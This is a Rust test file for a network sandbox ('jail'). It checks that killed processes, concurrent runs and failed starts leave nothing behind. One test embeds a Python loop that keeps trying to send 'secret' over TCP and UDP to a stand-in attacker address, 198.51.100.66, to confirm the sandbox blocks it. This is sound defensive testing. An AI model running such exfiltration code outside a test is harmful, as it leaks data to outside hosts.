//! Many at once, and ends that nobody planned: nothing stays behind.

use std::time::Duration;

use nix::sys::signal::Signal;

use crate::jail::Jail;
use crate::suite::{Mode, Suite, both};
use crate::world::World;

const RUNS: usize = 200;

pub(crate) fn add(suite: &mut Suite) {
    both!(
        suite,
        one_run_leaves_nothing,
        killed_gateway_takes_the_job_along,
        killed_gateway_opens_nothing,
        two_hundred_runs_at_once,
        two_thousand_connections_at_once,
        failed_start_leaves_nothing,
    );
}

fn one_run_leaves_nothing(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let jail = Jail::new(&world, mode).allow("good.test");
    jail.run(["curl", "-sS", "https://good.test/"]).assert_success();
    world.assert_nothing_left();
    jail.shell("echo >/tmp/of-the-job").assert_success();
    let left = world.left_after(Duration::ZERO);
    assert!(
        left.iter().all(|what| what.ends_with("/of-the-job")),
        "the job's own files are its own: {left:?}"
    );
}

fn killed_gateway_takes_the_job_along(mode: Mode) {
    let world = World::new();
    let script = "setsid sleep 1000 & sleep 1000 & echo ready; wait";
    let running = Jail::new(&world, mode).start(["sh", "-c", script]);
    running.wait_for("ready");
    running.signal(Signal::SIGKILL);
    running.finish().assert_code(128 + Signal::SIGKILL as i32);
    world.assert_nothing_left();
}

/// The job tries on and on while its gateway dies.
fn killed_gateway_opens_nothing(mode: Mode) {
    let world = World::new();
    world.site("good.test");
    let script = "\
import socket
rounds = 0
while True:
    for target in (('198.51.100.66', 80), ('198.51.100.66', 443)):
        s = socket.socket()
        s.settimeout(0.2)
        try:
            s.connect(target)
            s.sendall(b'secret')
        except OSError: pass
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', ('198.51.100.66', 9))
    rounds += 1
    if rounds == 20: print('ready', flush=True)
";
    let running = Jail::new(&world, mode).allow("good.test").start(["/usr/bin/python3", "-c", script]);
    running.wait_for("ready");
    running.signal(Signal::SIGKILL);
    running.finish();
    world.assert_nothing_left();
    world.assert_attacker_saw_nothing();
}

fn two_hundred_runs_at_once(mode: Mode) {
    let world = World::new();
    let site = world.site("good.test");
    let jail = Jail::new(&world, mode).allow("good.test").within(Duration::from_secs(120));
    let all: Vec<_> = (0..RUNS).map(|_| jail.start(["curl", "-sS", "http://good.test/"])).collect();
    for running in all {
        running.finish().assert_success().assert_stdout("hello from good.test\n");
    }
    assert_eq!(site.requests().len(), RUNS);
    world.assert_nothing_left();
}

fn two_thousand_connections_at_once(mode: Mode) {
    let world = World::new();
    let (heard, _) = world.tcp_echo("echo.test", 7007, b"");
    let words = ["connections", "2000", "echo.test", "7007"];
    let outcome = Jail::new(&world, mode).allow("echo.test:7007").helper(&words);
    outcome.assert_success().assert_stdout("2000 connections\n");
    assert_eq!(heard.connections(), 2000);
    world.assert_nothing_left();
}

fn failed_start_leaves_nothing(mode: Mode) {
    let world = World::new();
    Jail::new(&world, mode).run(["/no/such/command"]).assert_code(127);
    Jail::new(&world, mode).allow("bad:0").run(["true"]).assert_code(125);
    world.assert_nothing_left();
}
